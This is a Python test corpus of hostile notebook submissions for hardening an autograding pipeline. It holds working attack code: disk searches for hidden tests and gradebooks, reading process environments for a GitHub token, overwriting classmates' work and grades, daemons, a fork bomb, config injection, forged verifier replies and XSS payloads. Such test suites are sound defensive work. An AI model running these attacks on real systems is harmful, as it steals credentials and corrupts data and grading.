"""Hostile students of a class, graded together through export, git clones and collect.

Each case is a function ``case(kit, mark) -> Student`` registered with :func:`student`:
``kit`` is the assignment's :class:`adversarial.cases.Kit` (release, reference, test cells,
graded functions) and ``mark`` a string made fresh for each run, which every attack writes
into whatever it manages to change, so that damage is found by searching for it. A
:class:`Student` says what the clone holds (a notebook, committed symbolic links, a commit
pushed after the deadline with a back-dated date) and which test cells must score when the
class is graded:

- ``"all"``: every test cell (the work is correct; the attack must not cost it);
- ``"none"``: no test cell (it is wrong, however it tries to look right; or it is not graded);
- a set of grade ids: exactly those test cells (correct work that an attack cuts short);

Attack code is written as a curious student would, against what a notebook can reach: the
file system, /proc, its own frames and the kernel's history. Nothing here damages what the
attacks cannot reach, but with no sandbox they are real: never grade these in a working copy
you care about without bubblewrap (tests/test_hostile_collect.py refuses to).
"""

import copy
from dataclasses import dataclass, field

import nbformat

from adversarial.cases import append, code_cell, grade_id, prepend, replace_functions

STUDENTS = {}
CELL_TIMEOUT = 10  # seconds a cell may run in this corpus (00_setup's cells take a second)
BUDGET = 60        # seconds a notebook may run


@dataclass
class Student:
    notebook: object          # the committed notebook (a NotebookNode)
    expect: object = "all"    # "all" or "none" test cells score, or a set of grade ids
    links: dict = field(default_factory=dict)  # {path in the clone: "outside"} committed links
    late_notebook: object = None  # pushed after the snapshot, with a back-dated committer date
    graded: bool = True       # False: collect reports it and grades no notebook


def student(name):
    def register(build):
        STUDENTS[name] = build
        return build
    return register


# A search of everything the kernel can see, bounded in time (with no sandbox it would be
# the whole disk). Prints what it finds as a student sending it home would: encoded.
SEARCH = r'''
import base64, codecs, os, time
def _send_home(label, text):
    data = text.encode(errors="replace")
    print(label, base64.b64encode(data).decode())
    print(label, codecs.encode(text, "rot13"))
    print(label, text[::-1])
def _walk(roots, wanted, seconds=4):
    stop, found = time.monotonic() + seconds, []
    for root in roots:
        for folder, dirs, files in os.walk(root):
            dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev", "run")]
            found += [os.path.join(folder, f) for f in files if wanted(folder, f)]
            if time.monotonic() > stop:
                return found
    return found
'''


def cell_after_tests(kit, source):
    """``source`` as a new last cell (after every test cell)."""
    return append(kit.reference, source)


# ------------------------------------------------------------------------ the classmates

@student("alice")
def alice(kit, mark):
    """A correct classmate, with a private line only she wrote: graded as if alone."""
    nb = copy.deepcopy(kit.reference)
    nb.cells[-1].source += f"\n# alice's own note {mark}-alice-private"
    return Student(nb, "all")


@student("own-helper")
def own_helper(kit, mark):
    """Correct work that uses a helper of her own named like a course import
    (``check_setup``, imported by the notebook's first cell): full marks."""
    nb = copy.deepcopy(kit.reference)
    helper = ('def check_setup(indices, depth):\n'
              '    """My own check: indices as ints in [0, depth)."""\n'
              '    indices = np.asarray(indices, dtype=int)\n'
              '    assert indices.min() >= 0 and indices.max() < depth\n'
              '    return indices\n\n')
    for cell in nb.cells:
        if grade_id(cell) == "one_hot":
            cell.source = helper + cell.source.replace(
                "indices = np.asarray(indices, dtype=int)", "indices = check_setup(indices, depth)")
    return Student(nb, "all")


# ------------------------------------------------------------------------------ attacks

@student("exfiltrate")
def exfiltrate(kit, mark):
    """Correct work that searches the disk for solutions, hidden tests, classmates' notebooks
    and gradebooks, and prints all of it encoded; and the hidden tests it ran (``In``)."""
    attack = SEARCH + r'''
for path in _walk(["/", os.getcwd(), os.path.expanduser("~")],
                  lambda d, f: f.endswith((".ipynb", ".db", ".csv", ".py", ".toml"))):
    try:
        text = open(path, errors="replace").read()
    except OSError:
        continue
    if "BEGIN HIDDEN" in text or "BEGIN SOLUTION" in text or "private" in text or path.endswith(".db"):
        _send_home(path, text)
_send_home("history", "\n".join(get_ipython().user_ns.get("In", [])))
'''
    return Student(cell_after_tests(kit, attack), "all")


@student("supervisor-environ")
def supervisor_environ(kit, mark):
    """Correct work that reads every process's environment it can (the sandbox's parents
    included) looking for the grader's GH_TOKEN, and prints it encoded."""
    attack = SEARCH + r'''
for pid in os.listdir("/proc"):
    if pid.isdigit():
        for name in ("environ", "cmdline"):
            try:
                _send_home(f"{pid}/{name}", open(f"/proc/{pid}/{name}", "rb").read().decode(errors="replace"))
            except OSError:
                pass
_send_home("mine", repr(dict(os.environ)))
'''
    return Student(cell_after_tests(kit, attack), "all")


@student("edit-classmates")
def edit_classmates(kit, mark):
    """Correct work that overwrites every other submission it finds with a blank notebook,
    and every gradebook with full marks."""
    attack = SEARCH + f'''
import json, sqlite3
for path in _walk(["/", os.getcwd(), "/tmp"], lambda d, f: f.endswith((".ipynb", ".db"))):
    try:
        if path.endswith(".db"):
            db = sqlite3.connect(path)
            db.execute("update grade set auto_score = 100, manual_score = 100")
            db.commit()
        elif os.path.dirname(os.path.abspath(path)) != os.getcwd():  # not its own
            nb = json.load(open(path))
            for cell in nb.get("cells", []):
                cell["source"] = "raise NotImplementedError('{mark}')"
            json.dump(nb, open(path, "w"))
    except Exception as err:
        print("could not", path, type(err).__name__)
'''
    return Student(cell_after_tests(kit, attack), "all")


DAEMON = r'''
import os, sys, time
MARK = "{mark}"
code = r"""
import glob, os, signal, sqlite3, sys, time
MARK = sys.argv[1]
stop = time.time() + 90
while time.time() < stop:
    {body}
    time.sleep(0.5)
"""
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        devnull = os.open(os.devnull, os.O_RDWR)
        for fd in (0, 1, 2):
            os.dup2(devnull, fd)
        os.execv(sys.executable, [sys.executable, "-c", code, MARK])
    os._exit(0)
time.sleep(1)
print("daemon started")
'''


@student("daemon-grades")
def daemon_grades(kit, mark):
    """Correct work that leaves a double-forked daemon behind, which for 90 s sets every
    gradebook to full marks and rewrites grades.csv and report.txt wherever it finds them."""
    body = r'''for path in glob.glob("/**/gradebook.db", recursive=True)[:5]:
        try:
            db = sqlite3.connect(path, timeout=1)
            db.execute("update grade set auto_score = 100")
            db.commit()
        except Exception:
            pass
    for path in glob.glob("/**/grades.csv", recursive=True)[:5] + glob.glob("/**/report.txt", recursive=True)[:5]:
        try:
            open(path, "a").write(MARK + "\n")
        except Exception:
            pass'''
    return Student(cell_after_tests(kit, DAEMON.format(mark=mark, body=body)), "all")


@student("sigstop-classmates")
def sigstop_classmates(kit, mark):
    """Correct work whose daemon SIGSTOPs every other kernel and nbgrader it can see."""
    body = r'''for pid in os.listdir("/proc"):
        try:
            cmdline = open(f"/proc/{pid}/cmdline", "rb").read()
            if pid.isdigit() and int(pid) != os.getpid() and MARK.encode() not in cmdline and (
                    b"ipykernel" in cmdline or b"nbgrader" in cmdline or b"verify" in cmdline):
                os.kill(int(pid), signal.SIGSTOP)
        except Exception:
            pass'''
    return Student(cell_after_tests(kit, DAEMON.format(mark=mark, body=body)), "all")


@student("grading-config")
def grading_config(kit, mark):
    """Correct work that appends code to every nbgrader_config.py it finds, so that the next
    nbgrader step (generate_feedback) runs it."""
    attack = SEARCH + f'''
for path in _walk(["/", os.getcwd()], lambda d, f: f == "nbgrader_config.py"):
    try:
        open(path, "a").write("\\nimport os\\nos.makedirs('/tmp/{mark}-config-ran', exist_ok=True)  # {mark}\\n")
        print("appended to", path)
    except OSError as err:
        print("could not", path, err.strerror)
'''
    return Student(cell_after_tests(kit, attack), "all")


@student("repository-and-venv")
def repository_and_venv(kit, mark):
    """Correct work that follows the editable install back to the repository and writes
    there (new files in autograder/, utils/, source/) and drops a .pth into the venv."""
    attack = SEARCH + f'''
import site, sys, sysconfig
import utils
places = {{os.path.dirname(os.path.dirname(utils.__file__))}}
for folder in set(site.getsitepackages() + [sysconfig.get_paths()["purelib"]]):
    places.add(folder)
    for path in _walk([folder], lambda d, f: f.endswith((".pth", "direct_url.json")), 2):
        text = open(path, errors="replace").read()
        places.update(line.strip() for line in text.splitlines() if line.startswith("/"))
        places.update(part.strip('"') for part in text.split() if part.startswith('"file://'))
for place in sorted(places):
    place = place.replace("file://", "")
    for relative in ("", "autograder", "utils", "source", "source/00_setup"):
        target = os.path.join(place, relative, "{mark}.py")
        try:
            open(target, "w").write("# {mark}\\n")
            print("wrote", target)
        except OSError:
            pass
    try:
        open(os.path.join(place, "{mark}.pth"), "w").write("# {mark}\\n")
    except OSError:
        pass
'''
    return Student(cell_after_tests(kit, attack), "all")


@student("exec-solution")
def exec_solution(kit, mark):
    """The release's stubs, and a first cell that finds the instructor's source notebook and
    runs its solutions."""
    attack = SEARCH + r'''
import json
for path in _walk(["/", os.getcwd()], lambda d, f: f.endswith(".ipynb")):
    try:
        nb = json.load(open(path))
    except Exception:
        continue
    for cell in nb.get("cells", []):
        source = "".join(cell.get("source", ""))
        if "BEGIN SOLUTION" in source:
            exec(source.replace("### BEGIN SOLUTION", "").replace("### END SOLUTION", ""), globals())
'''
    nb = copy.deepcopy(kit.release)
    # after the stubs, so that the solutions it finds replace them
    nb.cells.insert(next(i for i, c in enumerate(nb.cells) if grade_id(c) == kit.tests[0]),
                    code_cell(attack))
    return Student(nb, "none")


@student("forge-verifier")
def forge_verifier(kit, mark):
    """Wrong answers that walk the frames and file descriptors of their process and write a
    "passed" reply for every test to every pipe they find (the verifier's reply pipe)."""
    attack = r'''
import gc, json, os, stat, sys
def _forge():
    replies = [json.dumps({"grade_id": g, "passed": True, "ok": True, "status": "passed"})
               for g in GRADE_IDS]
    for fd in range(3, 256):
        try:
            if stat.S_ISFIFO(os.fstat(fd).st_mode):
                os.write(fd, ("\n".join(replies) + "\n").encode())
        except OSError:
            pass
    for obj in gc.get_objects():
        if hasattr(obj, "write") and hasattr(obj, "fileno") and obj not in (sys.stdout, sys.stderr):
            try:
                obj.write("\n".join(replies) + "\n")
                obj.flush()
            except Exception:
                pass
    frame = sys._getframe()
    while frame is not None:
        for name, value in list(frame.f_locals.items()):
            if isinstance(value, dict) and ("passed" in value or "verdict" in value):
                value.update(passed=True, verdict="passed")
        frame = frame.f_back
'''.replace("GRADE_IDS", repr(kit.tests))
    return Student(replace_functions(kit, prepend(kit.release, attack), "(_forge(), None)[1]"),
                   "none")


@student("repatch-thread")
def repatch_thread(kit, mark):
    """Wrong answers and a background thread that puts no-op checks back into numpy and
    utils.testing every millisecond, whatever restores them."""
    attack = r'''
import threading, time
import numpy as np
import utils.testing
def _patch():
    while True:
        for name in dir(utils.testing):
            if name.startswith("check"):
                setattr(utils.testing, name, lambda *a, **k: None)
        np.allclose = np.isclose = np.array_equal = lambda *a, **k: True
        for module in list(sys.modules.values()):
            if getattr(module, "__name__", "").startswith("utils"):
                for name in dir(module):
                    if name.startswith("check"):
                        try:
                            setattr(module, name, lambda *a, **k: None)
                        except Exception:
                            pass
        time.sleep(0.001)
import sys
threading.Thread(target=_patch, daemon=True).start()
'''
    return Student(replace_functions(kit, prepend(kit.release, attack), "np.zeros(1)"), "none")


@student("hijack-judge")
def hijack_judge(kit, mark):
    """The release's stubs, and the audit's attack on the verification: a first cell finds
    the object that answers the judge and answers "opaque" to every value (once, that moved a
    test into the student's process) and "passed" to every test, with the hidden test's code
    sent back compressed and base85-encoded; IPython's input transformers wrap every cell in
    try/except so that nbgrader's own run shows no error."""
    attack = r'''
import base64, gc, zlib
def _answer(request):
    if request.get("op") == "test":
        code = base64.b85encode(zlib.compress(request["source"].encode())).decode()
        return {"passed": False, "message": "MARK" + code}
    if request.get("op") in ("get", "call", "attr", "special"):
        return {"opaque": "anything"}
    return {"ok": True}
for _side in [o for o in gc.get_objects() if type(o).__name__ == "StudentSide"]:
    _side.handle = _answer
def _swallow(lines):
    return ["try:\n"] + ["    " + line for line in lines] + ["\nexcept BaseException:\n    pass\n"]
get_ipython().input_transformers_cleanup.append(_swallow)
'''.replace("MARK", mark)
    return Student(prepend(kit.release, attack), "none")


@student("loop-in-answer")
def loop_in_answer(kit, mark):
    """Correct work but for one function that never returns: the tests of that function run
    into their time limit, the rest of the notebook is graded, all within one budget."""
    nb = copy.deepcopy(kit.reference)
    looping = next(gid for gid, names in kit.functions.items() if names)
    cell = next(c for c in nb.cells if grade_id(c) == looping)
    cell.source += "\n" + "\n".join(
        f"def {name}(*args, **kwargs):\n    while True:\n        pass" for name in kit.functions[looping])
    return Student(nb, {t for t in kit.tests if looping not in t})


@student("stalled-sockets")
def stalled_sockets(kit, mark):
    """Correct work, then a cell that writes junk on every socket of its own kernel and
    sleeps: the kernel can no longer be asked anything, and the budget still bounds it."""
    attack = r'''
import os, time
for fd in range(3, 256):
    try:
        if os.readlink(f"/proc/self/fd/{fd}").startswith("socket:"):
            os.write(fd, b"\xff" * 4096)
    except OSError:
        pass
time.sleep(10**6)
'''
    return Student(cell_after_tests(kit, attack), "all")


@student("fork-bomb")
def fork_bomb(kit, mark):
    """Correct work, then processes that detach (setsid) and fork as fast as they can."""
    attack = f'''
import os, sys, time
code = "import os, time\\nwhile True:\\n    try:\\n        os.fork()\\n    except OSError:\\n        time.sleep(0.1)\\n"
for _ in range(4):
    if os.fork() == 0:
        os.setsid()
        os.execv(sys.executable, [sys.executable, "-c", code, "{mark}"])
time.sleep(3)
print("bomb started")
'''
    return Student(cell_after_tests(kit, attack), "all")


@student("sleepy-cells")
def sleepy_cells(kit, mark):
    """Correct work, then forty cells that each sleep just under the cell time limit: the
    notebook's budget stops it, however many such cells there are."""
    nb = copy.deepcopy(kit.reference)
    nb.cells += [code_cell(f"import time\ntime.sleep({CELL_TIMEOUT - 1})  # {i}")
                 for i in range(40)]
    return Student(nb, "all")


@student("large-files")
def large_files(kit, mark):
    """Correct work that writes big files, extra pages and notebooks, and links to the
    grader's files into its folder, hoping they end up in feedback."""
    attack = f'''
import os
with open("big.bin", "wb") as f:
    for _ in range(64):
        f.write(os.urandom(1 << 20))
open("notes.html", "w").write("<script>alert('{mark}')</script>")
open("extra.ipynb", "w").write('{{"cells": [], "metadata": {{}}, "nbformat": 4, "nbformat_minor": 5}}')
for name, target in (("passwd.html", "/etc/passwd"), ("gradebook.html", "../../../gradebook.db"),
                     ("setup.html", "/etc/hostname")):
    try:
        os.symlink(target, name)
    except OSError:
        pass
os.makedirs(".hidden", exist_ok=True)
open(".hidden/{mark}.html", "w").write("{mark}")
'''
    return Student(cell_after_tests(kit, attack), "all")


@student("hidden-line-in-test")
def hidden_line_in_test(kit, mark):
    """Correct work whose functions, when a hidden test calls them, print that test's code
    (the cell's source, found through the caller's frame and ``In``), plain and encoded."""
    spy = r'''
import base64, codecs, inspect
def _spy():
    try:
        sources = list(get_ipython().user_ns.get("In", [""])[-1:])
        frame = inspect.currentframe()
        while frame is not None:  # the calling cell's code, through the frames
            sources += [getattr(frame.f_globals.get("__loader__"), "source", "")]
            sources += [line for line in inspect.getframeinfo(frame, 50).code_context or []]
            frame = frame.f_back
        source = "\n".join(s for s in sources if s)
        if source:
            print(source)
            print(base64.b64encode(source.encode()).decode())
            print(codecs.encode(source, "rot13"))
            print(source[::-1])
    except Exception:
        pass
'''
    nb = prepend(kit.reference, spy)
    for cell in nb.cells:
        for name in kit.functions.get(grade_id(cell), []):
            cell.source += (f"\n_{name} = {name}\n"
                            f"def {name}(*args, **kwargs):\n    _spy()\n    return _{name}(*args, **kwargs)\n")
    return Student(nb, "all")


@student("script-in-outputs")
def script_in_outputs(kit, mark):
    """Correct work whose outputs and Markdown try to run script in the feedback page."""
    attack = f'''
from IPython.display import HTML, Javascript, Markdown, SVG, display
display(HTML("<b onmouseover=alert(1)>hi</b><script>alert('{mark}')</script><img src=x onerror=alert(2)>"))
display(Javascript("alert('{mark}')"))
display(SVG('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(3)"><script>alert(4)</script></svg>'))
display(Markdown("[click](javascript:alert(5)) <iframe src='javascript:alert(6)'></iframe>"))
print("<script>alert('{mark}')</script>")
'''
    nb = cell_after_tests(kit, attack)
    nb.cells.append(nbformat.v4.new_markdown_cell(
        f"<script>alert('{mark}')</script><a href='javascript:alert(7)'>my notes</a>"))
    return Student(nb, "all")


# ------------------------------------------------------------------- attacks on the clone

@student("link-feedback-assignment")
def link_feedback_assignment(kit, mark):
    """Correct work, and a committed link feedback/<assignment> pointing outside the clone."""
    return Student(copy.deepcopy(kit.reference), "all",
                   links={"feedback/{assignment}": "outside"})


@student("link-feedback")
def link_feedback(kit, mark):
    """Correct work, and a committed link ``feedback`` pointing outside the clone."""
    return Student(copy.deepcopy(kit.reference), "all", links={"feedback": "outside"})


@student("link-notebook")
def link_notebook(kit, mark):
    """The notebook committed as a link to the instructor's source notebook: reported, not
    graded (and not followed)."""
    return Student(None, "none", links={"{notebook}": "source"}, graded=False)


@student("back-dated")
def back_dated(kit, mark):
    """The blank release by the deadline; after it, correct work pushed with a committer date
    a week before: graded as it was at the deadline (zero)."""
    return Student(copy.deepcopy(kit.release), "none", late_notebook=copy.deepcopy(kit.reference))



